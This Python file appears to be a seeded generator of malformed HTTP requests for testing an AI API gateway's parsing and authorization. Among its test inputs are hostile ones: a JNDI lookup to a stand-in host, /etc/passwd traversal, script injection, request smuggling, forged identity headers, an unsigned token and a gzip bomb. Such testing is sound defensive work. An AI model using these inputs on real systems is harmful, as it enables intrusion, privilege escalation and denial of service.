# Copyright: Contributors to the egress.ai_gateway project
# SPDX-License-Identifier: GPL-3.0-or-later
"""Malformed requests, and odd ones that are not:

every case depends on a seed and its number alone, so that it can be repeated.
"""

from __future__ import annotations

import dataclasses
import functools
import gzip
import json
import random
import typing as t
import zlib

import http2_frames as h2

CRLF = b"\r\n"
CHAT, COMPLETIONS, EMBEDDINGS, MESSAGES, MODELS = (
    b"/v1/chat/completions",
    b"/v1/completions",
    b"/v1/embeddings",
    b"/v1/messages",
    b"/v1/models",
)
#: Once in so many rounds of all kinds a costly one is sent.
RARE_ROUNDS = 30
#: A body over the gateway's limit of 50 MiB.
OVERSIZE = 52 * 2**20


@dataclasses.dataclass(frozen=True)
class Case:
    """A connection's worth of bytes.

    `segments` are sent one after the other with a short pause between. Of one that is not `complete` no answer can be
    expected: the gateway may wait for more.
    """

    kind: str
    index: int
    segments: tuple[bytes, ...]
    http2: bool = False
    head: bool = False
    complete: bool = True
    authorized: bool = False
    #: As the request says it, as far as it says one.
    path: str = ""

    @property
    def data(self) -> bytes:
        return b"".join(self.segments)


@dataclasses.dataclass
class Request:
    """A request of HTTP/1.1 in its parts; without `framed` it has no content-length of its own."""

    method: bytes
    target: bytes
    headers: list[tuple[bytes, bytes]]
    body: bytes = b""
    version: bytes = b"HTTP/1.1"
    framed: bool = True

    def without(self, name: bytes) -> Request:
        return dataclasses.replace(
            self, headers=[header for header in self.headers if header[0].lower() != name.lower()]
        )

    def plus(self, *headers: tuple[bytes, bytes]) -> Request:
        return dataclasses.replace(self, headers=[*self.headers, *headers])

    def with_body(self, body: bytes) -> Request:
        return dataclasses.replace(self, body=body)

    @property
    def head(self) -> bytes:
        """Everything before the body."""
        headers = list(self.headers)
        if self.framed and (self.body or self.method in (b"POST", b"PUT", b"PATCH")):
            headers.append((b"content-length", b"%d" % len(self.body)))
        lines = [
            b" ".join((self.method, self.target, self.version)),
            *(name + b": " + value for name, value in headers),
        ]
        return CRLF.join([*lines, b"", b""])

    @property
    def raw(self) -> bytes:
        return self.head + self.body


class Draw:
    """What a kind makes its request of:

    random numbers, the caller's token if there is one for this case, and a valid request.
    """

    def __init__(self, generator: random.Random, token: str, host: str, model: str) -> None:
        self.random = generator
        self.host = host.encode()
        self.model = model
        self.authorized = bool(token) and generator.random() < 0.6
        # What tests forms of the header needs something to put there.
        self.token = (token if self.authorized else "x" * 40).encode()

    def text(self, length: int) -> bytes:
        return bytes(self.random.choices(b"abcdefghijklmnopqrstuvwxyz0123456789", k=length))

    def noise(self, length: int) -> bytes:
        return self.random.randbytes(length)

    def document(self, path: bytes = CHAT) -> dict[str, t.Any]:
        messages = [{"role": "user", "content": "Hello"}]
        documents: dict[bytes, dict[str, t.Any]] = {
            COMPLETIONS: {"model": self.model, "prompt": "Hello", "max_tokens": 1},
            EMBEDDINGS: {"model": self.model, "input": "Hello"},
        }
        return documents.get(path, {"model": self.model, "messages": messages, "max_tokens": 1})

    def post(self, path: bytes = b"") -> Request:
        """Return a valid request with a body."""
        path = path or self.random.choice((CHAT, CHAT, MESSAGES, COMPLETIONS, EMBEDDINGS))
        headers = [(b"host", self.host), (b"content-type", b"application/json"), *self.credentials(path)]
        if path == MESSAGES:
            headers.append((b"anthropic-version", b"2023-06-01"))
        return Request(b"POST", path, headers, json.dumps(self.document(path)).encode())

    def get(self, target: bytes = MODELS, method: bytes = b"GET") -> Request:
        """Return a valid request without a body."""
        return Request(method, target, [(b"host", self.host), *self.credentials(target)])

    def any(self) -> Request:
        return self.get() if self.random.random() < 0.25 else self.post()

    def credentials(self, path: bytes) -> list[tuple[bytes, bytes]]:
        if not self.authorized:
            return []
        if path == MESSAGES and self.random.random() < 0.5:
            return [(b"x-api-key", self.token)]
        return [(b"authorization", b"Bearer " + self.token)]

    def http2(self, request: Request) -> list[h2.Header]:
        pseudo = [
            (b":method", request.method),
            (b":scheme", b"http"),
            (b":path", request.target),
            (b":authority", self.host),
        ]
        return pseudo + [header for header in request.headers if header[0] != b"host"]


@dataclasses.dataclass(frozen=True)
class Bytes:
    """What a kind makes where a Request is not enough: segments, and what a Case says of them."""

    segments: tuple[bytes, ...]
    complete: bool = True
    http2: bool = False
    path: str = ""


Made = Request | Bytes
Maker = t.Callable[[Draw], Made]


def raw(*segments: bytes, complete: bool = True) -> Bytes:
    return Bytes(segments, complete)


def http2(*segments: bytes, complete: bool = True) -> Bytes:
    return Bytes((h2.opening() + segments[0], *segments[1:]), complete, http2=True)


##### Request lines


def line(start: bytes, complete: bool = True) -> Maker:
    """A request that begins with `start` in place of its line; {} in it stands for the host."""

    def make(draw: Draw) -> Made:
        request = draw.get()
        rest = request.raw.partition(CRLF)[2]
        return raw(start.replace(b"{}", draw.host) + rest, complete=complete)

    return make


LINES: dict[str, Maker] = {
    "lower-case-method": line(b"get /v1/models HTTP/1.1\r\n"),
    "unknown-method": line(b"FOO /v1/models HTTP/1.1\r\n"),
    "extension-method": line(b"M-SEARCH * HTTP/1.1\r\n"),
    "long-method": line(b"A" * 10_000 + b" /v1/models HTTP/1.1\r\n"),
    "method-of-letters": lambda draw: draw.get(method=draw.text(9).upper()),
    "method-with-nul": line(b"G\x00T /v1/models HTTP/1.1\r\n"),
    "method-not-ascii": line(b"G\xc9T /v1/models HTTP/1.1\r\n"),
    "no-method": line(b"/v1/models HTTP/1.1\r\n"),
    "blank-first": line(b" GET /v1/models HTTP/1.1\r\n"),
    "lines-first": line(b"\r\n\r\nGET /v1/models HTTP/1.1\r\n"),
    "two-blanks": line(b"GET  /v1/models HTTP/1.1\r\n"),
    "tabs": line(b"GET\t/v1/models\tHTTP/1.1\r\n"),
    "blank-last": line(b"GET /v1/models HTTP/1.1 \r\n"),
    "blank-in-path": line(b"GET /v1/ models HTTP/1.1\r\n"),
    "absolute-form": line(b"GET http://{}/v1/models HTTP/1.1\r\n"),
    "absolute-form-other-host": line(b"GET http://elsewhere.example/v1/models HTTP/1.1\r\n"),
    "absolute-form-https": line(b"GET https://{}/v1/models HTTP/1.1\r\n"),
    "absolute-form-ftp": line(b"GET ftp://{}/v1/models HTTP/1.1\r\n"),
    "absolute-form-no-path": line(b"GET http://{} HTTP/1.1\r\n"),
    "absolute-form-user": line(b"GET http://a:b@{}/v1/models HTTP/1.1\r\n"),
    "asterisk-options": line(b"OPTIONS * HTTP/1.1\r\n"),
    "asterisk-get": line(b"GET * HTTP/1.1\r\n"),
    "authority-form": line(b"GET {} HTTP/1.1\r\n"),
    "connect": line(b"CONNECT {} HTTP/1.1\r\n"),
    "connect-elsewhere": line(b"CONNECT elsewhere.example:443 HTTP/1.1\r\n"),
    "connect-path": line(b"CONNECT /v1/models HTTP/1.1\r\n"),
    "no-target": line(b"GET HTTP/1.1\r\n"),
    "empty-target": line(b"GET  HTTP/1.1\r\n"),
    "target-without-slash": line(b"GET v1/models HTTP/1.1\r\n"),
    "no-version": line(b"GET /v1/models\r\n", complete=False),
    "http-0.9": lambda draw: raw(b"GET /v1/models\r\n\r\n", complete=False),
    "http-1.0": line(b"GET /v1/models HTTP/1.0\r\n"),
    "http-1.0-no-host": lambda draw: raw(b"GET /v1/models HTTP/1.0\r\n\r\n"),
    "http-1.2": line(b"GET /v1/models HTTP/1.2\r\n"),
    "http-2.0": line(b"GET /v1/models HTTP/2.0\r\n"),
    "http-9.9": line(b"GET /v1/models HTTP/9.9\r\n"),
    "http-1.1.1": line(b"GET /v1/models HTTP/1.1.1\r\n"),
    "http-lower-case": line(b"GET /v1/models http/1.1\r\n"),
    "http-no-number": line(b"GET /v1/models HTTP/\r\n"),
    "line-feeds-alone": lambda draw: raw(draw.any().raw.replace(CRLF, b"\n")),
    "carriage-returns-alone": lambda draw: raw(draw.get().raw.replace(CRLF, b"\r"), complete=False),
    "only-line-ends": lambda draw: raw(CRLF * 20, complete=False),
    "nothing": lambda draw: raw(b"", complete=False),
    "tls-hello": lambda draw: raw(b"\x16\x03\x01\x00\xc8\x01\x00\x00\xc4\x03\x03" + draw.noise(196), complete=False),
    "noise": lambda draw: raw(draw.noise(draw.random.randrange(1, 3000)), complete=False),
    "head": lambda draw: draw.get(method=b"HEAD"),
    "head-with-body": lambda draw: dataclasses.replace(draw.post(), method=b"HEAD"),
    "trace": lambda draw: draw.get(method=b"TRACE"),
    "delete": lambda draw: draw.get(method=b"DELETE"),
    "put": lambda draw: dataclasses.replace(draw.post(), method=b"PUT"),
    "get-with-body": lambda draw: dataclasses.replace(draw.post(), method=b"GET"),
    "post-to-models": lambda draw: draw.post(MODELS),
    "options-of-a-page": lambda draw: draw.get(CHAT, b"OPTIONS").plus(
        (b"origin", b"https://page.example"), (b"access-control-request-method", b"POST")
    ),
}

##### Paths

TARGETS: dict[str, bytes] = {
    "percent-zz": b"/%zz",
    "percent-f": b"/v1/models/%f",
    "percent": b"/%",
    "percent-at-end": b"/v1/models/%",
    "percent-nul": b"/v1/models/%00",
    "percent-slash": b"/v1%2fmodels",
    "percent-slash-model": b"/v1/models/Qwen%2FQwen3-0.6B",
    "percent-backslash": b"/v1%5cmodels",
    "percent-dots": b"/v1/%2e%2e/v1/models",
    "percent-line-break": b"/v1/models%0d%0ax:%20y",
    "percent-blank": b"/v1/chat/completions%20",
    "percent-overlong": b"/v1/models/%c0%ae%c0%ae",
    "percent-utf8": b"/v1/models/%F0%9F%98%80",
    "percent-invalid-utf8": b"/v1/models/%ff%fe",
    "percent-u": b"/v1/models/%u002e",
    "percent-twice": b"/v1/models/%252f%2525",
    "percent-of-letters": b"/%76%31/%63hat/completions",
    "percent-in-query": b"/v1/models?a=%zz&%=%f",
    "dots": b"/v1/../v1/models",
    "dots-above": b"/../../../etc/passwd",
    "dot": b"/./v1/./models/.",
    "dots-at-end": b"/v1/models/..",
    "many-dots": b"/" + b"../" * 1000,
    "two-slashes": b"//v1/models",
    "slashes": b"/v1///chat//completions",
    "slash-at-end": b"/v1/chat/completions/",
    "backslash": b"/v1\\models",
    "backslashes": b"\\v1\\models",
    "latin1": b"/v1/models/caf\xe9",
    "bytes": b"/v1/models/\xff\xfe\xfd",
    "utf8": "/v1/models/caf\u00e9".encode(),
    "emoji": "/v1/models/\U0001f600".encode(),
    "control": b"/v1/models/\x01",
    "delete-character": b"/v1/models/\x7f",
    "nul": b"/v1/models/\x00",
    "tab": b"/v1/\tmodels",
    "carriage-return": b"/v1/\rmodels",
    "fragment": b"/v1/models#fragment",
    "fragment-only": b"#fragment",
    "long": b"/" + b"a" * 20_000,
    "long-query": b"/v1/models?" + b"a=b&" * 5_000,
    "many-parts": b"/a" * 5_000,
    "question": b"/?",
    "question-only": b"?",
    "questions": b"/v1/models???&&==",
    "semicolon": b"/;",
    "semicolon-parameter": b"/v1/models;x=y",
    "quote": b'/v1/models/"',
    "braces": b"/v1/models/{id}[0]",
    "angles": b"/v1/<script>alert(1)</script>",
    "pipe": b"/v1/a|b^c`d",
    "upper-case": b"/V1/CHAT/COMPLETIONS",
    "root": b"/",
    "unknown": b"/v2/unknown",
    "provider-percent": b"/openai/%zz",
    "provider-path": b"/openai/v1/chat/completions",
    "model-path": b"/gpt-4/v1/chat/completions",
    "count-tokens": b"/v1/messages/count_tokens",
    "responses": b"/v1/responses/resp_1",
    "messages-percent": b"/v1/messages/%zz",
    "well-known": b"/.well-known/openid-configuration",
    "format": b"/%s%n%d%x",
    "expression": b"/${jndi:ldap://elsewhere.example/a}",
}


def target(value: bytes) -> Maker:
    def make(draw: Draw) -> Made:
        if draw.random.random() < 0.5:
            return draw.get(value)
        return dataclasses.replace(draw.post(CHAT), target=value)

    return make


##### Headers


def plus(*headers: tuple[bytes, bytes]) -> Maker:
    return lambda draw: draw.any().plus(*headers)


def header_line(text: bytes) -> Maker:
    """A request with a line among its headers that is no `name: value`."""

    def make(draw: Draw) -> Made:
        request = draw.any()
        return raw(request.head[:-2] + text + CRLF + CRLF + request.body)

    return make


HEADERS: dict[str, Maker] = {
    "no-host": lambda draw: draw.any().without(b"host"),
    "two-hosts": plus((b"host", b"elsewhere.example")),
    "empty-host": lambda draw: draw.any().without(b"host").plus((b"host", b"")),
    "host-with-blank": lambda draw: draw.any().without(b"host").plus((b"host", b"a b")),
    "host-with-path": lambda draw: draw.any().without(b"host").plus((b"host", b"a/b?c#d@e")),
    "host-with-bad-port": lambda draw: draw.any().without(b"host").plus((b"host", b"a:99999999")),
    "host-not-ascii": lambda draw: draw.any().without(b"host").plus((b"host", b"caf\xe9.example")),
    "host-long": lambda draw: draw.any().without(b"host").plus((b"host", b"a" * 5000)),
    "host-with-percent": lambda draw: draw.any().without(b"host").plus((b"host", b"%zz%00")),
    "empty-name": header_line(b": value"),
    "no-colon": header_line(b"no colon"),
    "blank-in-name": header_line(b"a b: c"),
    "blank-before-colon": header_line(b"x-a : c"),
    "bad-name": header_line(b"x(a)@{b}: c"),
    "name-not-ascii": header_line(b"x-\xe9: c"),
    "name-with-nul": header_line(b"x-\x00a: c"),
    "name-with-underscore": plus((b"x_maas_user", b"root"), (b"x-maas_tier", b"enterprise")),
    "long-name": plus((b"x" * 20_000, b"a")),
    "long-value": plus((b"x-a", b"a" * 100_000)),
    "large-value": plus((b"x-a", b"a" * 50_000)),
    "many": plus(*((b"x-%d" % number, b"a") for number in range(200))),
    "many-of-one-name": plus(*((b"x-a", b"%d" % number) for number in range(95))),
    "value-latin1": plus((b"x-a", b"caf\xe9")),
    "value-utf8": plus((b"x-a", "caf\u00e9 \U0001f600".encode())),
    "value-invalid-utf8": plus((b"x-a", b"\xff\xfe\xc0\x80")),
    "value-with-nul": header_line(b"x-a: a\x00b"),
    "value-with-control": header_line(b"x-a: a\x01\x02\x1b[31mb"),
    "value-with-return": header_line(b"x-a: a\rb"),
    "value-with-feed": header_line(b"x-a: a\nb"),
    "empty-value": plus((b"x-a", b"")),
    "folded": header_line(b"x-a: a\r\n b\r\n\tc"),
    "folded-authorization": header_line(b"authorization: Bearer\r\n abc"),
    "folded-first": lambda draw: raw(
        b"GET /v1/models HTTP/1.1\r\n folded: yes\r\n" + draw.get().raw.partition(CRLF)[2]
    ),
    "two-authorizations": plus((b"authorization", b"Bearer a")),
    "three-authorizations": lambda draw: draw.any().plus(*[(b"authorization", b"Bearer " + draw.token)] * 3),
    "two-keys": plus((b"x-api-key", b"a"), (b"x-api-key", b"b")),
    "two-lengths": lambda draw: (request := draw.post()).plus((b"content-length", b"%d" % len(request.body))),
    "two-lengths-differ": lambda draw: draw.post().plus((b"content-length", b"3")),
    "two-types": plus((b"content-type", b"text/plain")),
    "model-forged": plus((b"x-ai-eg-model", b"gpt-4"), (b"x-gateway-model-name", b"gpt-4")),
    "identity-forged": plus((b"x-maas-user", b"root"), (b"x-maas-tier", b"enterprise"), (b"x-maas-group", b"admins")),
    "envoy-forged": plus(
        (b"x-envoy-original-path", b"/v1/models"),
        (b"x-envoy-upstream-rq-timeout-ms", b"1"),
        (b"x-envoy-retry-on", b"5xx"),
        (b"x-envoy-max-retries", b"1000"),
        (b"x-envoy-internal", b"true"),
    ),
    "forwarded-forged": plus(
        (b"x-forwarded-for", b"\xff, 127.0.0.1"), (b"x-forwarded-proto", b"gopher"), (b"x-forwarded-host", b"%")
    ),
    "override-method": plus((b"x-http-method-override", b"DELETE")),
    "override-path": plus((b"x-original-url", b"/admin"), (b"x-rewrite-url", b"/admin")),
    "request-id-odd": plus((b"x-request-id", b'"}\xff\\' + b"a" * 300)),
    "trace-odd": plus((b"traceparent", b"00-zz-zz-01"), (b"tracestate", b"=,=;"), (b"b3", b"-")),
    "connection-names-authorization": plus((b"connection", b"close, authorization, content-type, host")),
    "connection-odd": plus((b"connection", b", ,,;=")),
    "cookies": plus((b"cookie", b"=;;a=\xff; " + b"b=c; " * 500)),
    "accept-odd": plus((b"accept", b"*/*;q=2, ;;, \xff"), (b"accept-encoding", b"gzip;q=9, br;;, *;q=x")),
    "range": plus((b"range", b"bytes=-1,5-1,99999999999999999999-")),
    "if-match": plus((b"if-none-match", b'W/"\xff"'), (b"if-modified-since", b"yesterday")),
    "grpc": plus((b"content-type", b"application/grpc"), (b"te", b"trailers"), (b"grpc-timeout", b"1n")),
    "pseudo": header_line(b":path: /v1/models"),
    "no-end": lambda draw: raw(draw.get().raw[:-2], complete=False),
    "cut-off": lambda draw: raw((text := draw.any().head)[: draw.random.randrange(1, len(text))], complete=False),
    "byte-by-byte": lambda draw: raw(*(bytes([byte]) for byte in b"GET /v1"), draw.get().raw[7:]),
}

##### Forms of authorization


def authorization(*values: bytes) -> Maker:
    """A request with these values; {} stands for the token."""

    def make(draw: Draw) -> Made:
        request = draw.any().without(b"authorization").without(b"x-api-key")
        return request.plus(*((b"authorization", value.replace(b"{}", draw.token)) for value in values))

    return make


def api_key(*headers: tuple[bytes, bytes]) -> Maker:
    def make(draw: Draw) -> Made:
        request = draw.any().without(b"authorization").without(b"x-api-key")
        return request.plus(*((name, value.replace(b"{}", draw.token)) for name, value in headers))

    return make


AUTHORIZATIONS: dict[str, Maker] = {
    "lower-case": authorization(b"bearer {}"),
    "upper-case": authorization(b"BEARER {}"),
    "two-blanks": authorization(b"Bearer  {}"),
    "tab": authorization(b"Bearer\t{}"),
    "blanks-around": authorization(b"   Bearer {}   "),
    "no-blank": authorization(b"Bearer{}"),
    "no-scheme": authorization(b"{}"),
    "no-token": authorization(b"Bearer"),
    "empty-token": authorization(b"Bearer "),
    "empty": authorization(b""),
    "scheme-twice": authorization(b"Bearer Bearer {}"),
    "basic": authorization(b"Basic dXNlcjpwYXNz"),
    "basic-broken": authorization(b"Basic %%%"),
    "negotiate": authorization(b"Negotiate YII="),
    "aws": authorization(b"AWS4-HMAC-SHA256 Credential=a/b, SignedHeaders=host, Signature=c"),
    "api-key-scheme": authorization(b"APIKEY {}"),
    "comma": authorization(b"Bearer {}, Bearer {}"),
    "trailing": authorization(b"Bearer {} and more"),
    "quotes": authorization(b'Bearer "{}"'),
    "two-agree": authorization(b"Bearer {}", b"Bearer {}"),
    "two-disagree": authorization(b"Bearer {}", b"Bearer x"),
    "two-disagree-first": authorization(b"Bearer x", b"Bearer {}"),
    "both-agree": api_key((b"authorization", b"Bearer {}"), (b"x-api-key", b"{}")),
    "both-disagree": api_key((b"authorization", b"Bearer {}"), (b"x-api-key", b"x")),
    "both-disagree-first": api_key((b"x-api-key", b"{}"), (b"authorization", b"Bearer x")),
    "key": api_key((b"x-api-key", b"{}")),
    "key-with-scheme": api_key((b"x-api-key", b"Bearer {}")),
    "key-empty": api_key((b"x-api-key", b"")),
    "key-of-blanks": api_key((b"x-api-key", b"a" + b" " * 40_000 + b"b")),
    "token-of-blanks": authorization(b"Bearer" + b" " * 40_000 + b"a b"),
    "key-not-ascii": api_key((b"x-api-key", b"\xff\xe9")),
    "api-key": api_key((b"api-key", b"{}")),
    "long": authorization(b"Bearer " + b"a" * 10_000),
    "not-ascii": authorization(b"Bearer caf\xe9\xff"),
    "utf8": authorization("Bearer \u043a\u043b\u044e\u0447".encode()),
    "broken-base64": authorization(b"Bearer eyJ!!!.eyJ%%%.c2ln"),
    "empty-parts": authorization(b"Bearer .."),
    "many-parts": authorization(b"Bearer a.b.c.d.e.f"),
    "no-algorithm": authorization(b"Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJyb290In0."),
    "claims-are-no-object": authorization(b"Bearer eyJhbGciOiJSUzI1NiJ9.W10.YQ"),
    "claims-are-no-json": authorization(b"Bearer eyJhbGciOiJSUzI1NiJ9.eyJhIjo.YQ"),
    "token-cut": lambda draw: authorization(b"Bearer " + draw.token[:-5])(draw),
    "token-longer": authorization(b"Bearer {}AAAA"),
    "token-upper-case": lambda draw: authorization(b"Bearer " + draw.token.upper())(draw),
    "in-query": lambda draw: draw.get(MODELS + b"?access_token=" + draw.token + b"&api_key=" + draw.token).without(
        b"authorization"
    ),
    "in-cookie": api_key((b"cookie", b"token={}; authorization={}")),
    "proxy": api_key((b"proxy-authorization", b"Bearer {}")),
}

##### Transfer


def chunked(*body: bytes, complete: bool = True, headers: tuple[tuple[bytes, bytes], ...] = ()) -> Maker:
    """A chunked request with this body as it is; {} stands for the right chunks of a valid one, without the last."""

    def make(draw: Draw) -> Made:
        request = draw.post().plus((b"transfer-encoding", b"chunked"), *headers)
        right = b"%x\r\n%s\r\n" % (len(request.body), request.body)
        segments = [part.replace(b"{}", right) for part in body]
        head = dataclasses.replace(request, framed=False).head
        return raw(head + segments[0], *segments[1:], complete=complete)

    return make


def length(value: bytes, complete: bool = True) -> Maker:
    def make(draw: Draw) -> Made:
        request = dataclasses.replace(draw.post().plus((b"content-length", value)), framed=False)
        return raw(request.raw, complete=complete)

    return make


def coding(value: bytes, complete: bool = True) -> Maker:
    def make(draw: Draw) -> Made:
        request = dataclasses.replace(draw.post().plus((b"transfer-encoding", value)), framed=False)
        return raw(request.head + b"%x\r\n%s\r\n0\r\n\r\n" % (len(request.body), request.body), complete=complete)

    return make


TRANSFERS: dict[str, Maker] = {
    "chunked": chunked(b"{}0\r\n\r\n"),
    "chunked-segments": chunked(b"{}", b"0\r\n", b"\r\n"),
    "chunk-of-letters": chunked(b"zz\r\nabc\r\n0\r\n\r\n"),
    "chunk-negative": chunked(b"-5\r\nabc\r\n0\r\n\r\n"),
    "chunk-empty-size": chunked(b"\r\nabc\r\n0\r\n\r\n"),
    "chunk-hexadecimal-prefix": chunked(b"0x5\r\nabcde\r\n0\r\n\r\n"),
    "chunk-overflow": chunked(b"fffffffffffffffff\r\nabc\r\n0\r\n\r\n"),
    "chunk-large": chunked(b"7fffffffffffffff\r\nabc\r\n", complete=False),
    "chunk-too-short": chunked(b"2\r\nabcdef\r\n0\r\n\r\n"),
    "chunk-without-end": chunked(b"3\r\nabc0\r\n\r\n"),
    "chunk-line-feeds": chunked(b"3\nabc\n0\n\n", complete=False),
    "chunk-extension": chunked(b'2;a=b;c="d"\r\n{}\r\n'.replace(b"{}", b"{ ") + b"0\r\n\r\n"),
    "chunk-extension-huge": chunked(b"2;" + b"a" * 100_000 + b"\r\n[]\r\n0\r\n\r\n"),
    "chunk-zeros": chunked(b"0" * 1000 + b"2\r\n[]\r\n0\r\n\r\n"),
    "chunks-of-one": lambda draw: raw(
        (request := dataclasses.replace(draw.post().plus((b"transfer-encoding", b"chunked")), framed=False)).head
        + b"".join(b"1\r\n%c\r\n" % byte for byte in request.body)
        + b"0\r\n\r\n"
    ),
    "chunks-cut-off": chunked(b"{}", complete=False),
    "chunk-cut-off": chunked(b"ff\r\nabc", complete=False),
    "trailers": chunked(b"{}0\r\nx-a: b\r\nauthorization: Bearer x\r\ncontent-length: 5\r\n\r\n"),
    "trailers-malformed": chunked(b"{}0\r\nno colon\r\n\r\n"),
    "trailers-many": chunked(b"{}0\r\n" + b"".join(b"x-%d: a\r\n" % number for number in range(200)) + b"\r\n"),
    "garbage-behind": chunked(b"{}0\r\n\r\nGARBAGE\r\n\r\n"),
    "smuggled-request": chunked(b"{}0\r\n\r\nGET /v1/models HTTP/1.1\r\nhost: x\r\n\r\n"),
    "length-and-chunked": chunked(b"{}0\r\n\r\n", headers=((b"content-length", b"5"),)),
    "chunked-twice": coding(b"chunked, chunked"),
    "chunked-not-last": coding(b"chunked, gzip"),
    "chunked-upper-case": coding(b"CHUNKED"),
    "chunked-blank": coding(b" \tchunked "),
    "chunked-vertical-tab": coding(b"\x0bchunked"),
    "identity": coding(b"identity", complete=False),
    "gzip-coding": coding(b"gzip, chunked"),
    "unknown-coding": coding(b"odd", complete=False),
    "empty-coding": coding(b"", complete=False),
    "length-too-long": lambda draw: raw(
        (request := dataclasses.replace(draw.post(), framed=False))
        .plus((b"content-length", b"%d" % (len(request.body) + 50)))
        .raw,
        complete=False,
    ),
    "length-too-short": length(b"5"),
    "length-zero": length(b"0"),
    "length-negative": length(b"-1"),
    "length-plus": length(b"+5"),
    "length-letters": length(b"five"),
    "length-hexadecimal": length(b"0x10"),
    "length-list": length(b"5, 5"),
    "length-empty": length(b""),
    "length-huge": length(b"9" * 15, complete=False),
    "length-overflow": length(b"9" * 40),
    "length-of-50-mib": length(b"%d" % (51 * 2**20), complete=False),
    "no-length": lambda draw: raw(dataclasses.replace(draw.post(), framed=False).raw),
    "expect": lambda draw: raw((request := draw.post().plus((b"expect", b"100-continue"))).head, request.body),
    "expect-at-once": lambda draw: raw(draw.post().plus((b"expect", b"100-continue")).raw),
    "expect-without-body": lambda draw: raw(draw.post().plus((b"expect", b"100-continue")).head, complete=False),
    "expect-odd": lambda draw: raw(draw.post().plus((b"expect", b"200-ok, \xff")).raw),
    "upgrade-websocket": lambda draw: draw.get().plus(
        (b"connection", b"upgrade"),
        (b"upgrade", b"websocket"),
        (b"sec-websocket-version", b"13"),
        (b"sec-websocket-key", b"AAAAAAAAAAAAAAAAAAAAAA=="),
    ),
    "upgrade-h2c": lambda draw: draw.get().plus(
        (b"connection", b"upgrade, http2-settings"), (b"upgrade", b"h2c"), (b"http2-settings", b"AAMAAABkAARAAAAA")
    ),
    "upgrade-odd": lambda draw: draw.post().plus((b"connection", b"upgrade"), (b"upgrade", b"odd/9, \xff")),
    "body-cut-off": lambda draw: raw(draw.post().raw[: -draw.random.randrange(1, 20)], complete=False),
    "pipelined": lambda draw: raw(draw.any().raw * 3),
    "pipelined-malformed": lambda draw: raw(draw.any().raw + b"\x00\x01GET / HTTP/1.1\r\n\r\n"),
    "body-in-segments": lambda draw: raw((request := draw.post()).head, request.body[:5], request.body[5:]),
}

##### Encodings and content types


def encoded(value: bytes, change: t.Callable[[bytes], bytes]) -> Maker:
    def make(draw: Draw) -> Made:
        request = draw.post().plus((b"content-encoding", value))
        return request.with_body(change(request.body))

    return make


def same(body: bytes) -> bytes:
    return body


ENCODINGS: dict[str, Maker] = {
    "gzip": encoded(b"gzip", functools.partial(gzip.compress, mtime=0)),
    "gzip-of-nothing": encoded(b"gzip", lambda body: gzip.compress(b"", mtime=0)),
    "gzip-without": encoded(b"gzip", same),
    "gzip-cut-off": encoded(b"gzip", lambda body: gzip.compress(body, mtime=0)[:-9]),
    "gzip-unsaid": lambda draw: (request := draw.post()).with_body(gzip.compress(request.body, mtime=0)),
    "gzip-bomb": encoded(b"gzip", lambda body: gzip.compress(b" " * 5_000_000 + body, mtime=0)),
    "gzip-twice": encoded(b"gzip, gzip", lambda body: gzip.compress(gzip.compress(body, mtime=0), mtime=0)),
    "deflate": encoded(b"deflate", zlib.compress),
    "deflate-raw": encoded(b"deflate", lambda body: zlib.compress(body)[2:-4]),
    "deflate-without": encoded(b"deflate", same),
    "br": encoded(b"br", lambda body: ((len(body) - 1) << 4 | 1 << 20).to_bytes(3, "little") + body + b"\x03"),
    "br-without": encoded(b"br", same),
    "zstd": encoded(
        b"zstd", lambda body: b"\x28\xb5\x2f\xfd\x00\x50" + (len(body) << 3 | 1).to_bytes(3, "little") + body
    ),
    "zstd-without": encoded(b"zstd", same),
    "identity": encoded(b"identity", same),
    "unknown": encoded(b"odd", same),
    "empty": encoded(b"", same),
    "not-ascii": encoded(b"\xff", same),
}


def content_type(value: bytes | None, change: t.Callable[[bytes], bytes] = same) -> Maker:
    def make(draw: Draw) -> Made:
        request = draw.post().without(b"content-type")
        changed = request.with_body(change(request.body))
        return changed if value is None else changed.plus((b"content-type", value))

    return make


TYPES: dict[str, Maker] = {
    "none": content_type(None),
    "empty": content_type(b""),
    "form": content_type(b"application/x-www-form-urlencoded", lambda body: b"model=gpt-4&messages=%5B%5D&a=%zz"),
    "form-with-json": content_type(b"application/x-www-form-urlencoded"),
    "multipart": content_type(
        b"multipart/form-data; boundary=b",
        lambda body: b'--b\r\ncontent-disposition: form-data; name="model"\r\n\r\ngpt-4\r\n--b--\r\n',
    ),
    "multipart-no-boundary": content_type(b"multipart/form-data"),
    "text": content_type(b"text/plain"),
    "xml": content_type(
        b"application/xml", lambda body: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    ),
    "octets": content_type(b"application/octet-stream"),
    "upper-case": content_type(b"APPLICATION/JSON"),
    "suffix": content_type(b"application/problem+json"),
    "utf-16": content_type(b"application/json; charset=utf-16", lambda body: body.decode().encode("utf-16")),
    "utf-16-without": content_type(b"application/json; charset=utf-16"),
    "utf-7": content_type(b"application/json; charset=utf-7"),
    "latin1": content_type(b"application/json; charset=latin-1", lambda body: body[:-1] + b', "a": "\xe9"}'),
    "odd": content_type(b";/,\xff"),
    "long": content_type(b"application/json; a=" + b"b" * 5000),
    "list": content_type(b"application/json, text/plain"),
}

##### Bodies


def body(value: bytes) -> Maker:
    return lambda draw: draw.post().with_body(value)


def appended(value: bytes) -> Maker:
    """A valid document with `value` behind it."""
    return lambda draw: (request := draw.post()).with_body(request.body + value)


def prepended(value: bytes) -> Maker:
    return lambda draw: (request := draw.post()).with_body(value + request.body)


def inserted(value: bytes) -> Maker:
    """A valid document with further members before its end; {} stands for the model."""
    return lambda draw: (request := draw.post()).with_body(
        request.body[:-1] + b", " + value.replace(b"{}", draw.model.encode()) + b"}"
    )


def member(name: str, value: t.Any) -> Maker:
    """A valid document in which a member is another; ... takes it away."""

    def make(draw: Draw) -> Made:
        request = draw.post()
        document = {**json.loads(request.body), name: value}
        return request.with_body(
            json.dumps({key: found for key, found in document.items() if found is not ...}).encode()
        )

    return make


def number(text: bytes) -> Maker:
    """A valid document with a number as it stands here."""
    return inserted(b'"temperature": ' + text)


def nested(opening: bytes, closing: bytes, depth: int) -> Maker:
    return inserted(b'"metadata": ' + opening * depth + b"1" + closing * depth)


def sized(size: int) -> Maker:
    """A valid document of about so many bytes."""

    def make(draw: Draw) -> Made:
        document = {
            "model": draw.model,
            "messages": [{"role": "user", "content": draw.text(1000).decode() * (size // 1000)}],
            "max_tokens": 1,
        }
        return draw.post(CHAT).with_body(json.dumps(document).encode())

    return make


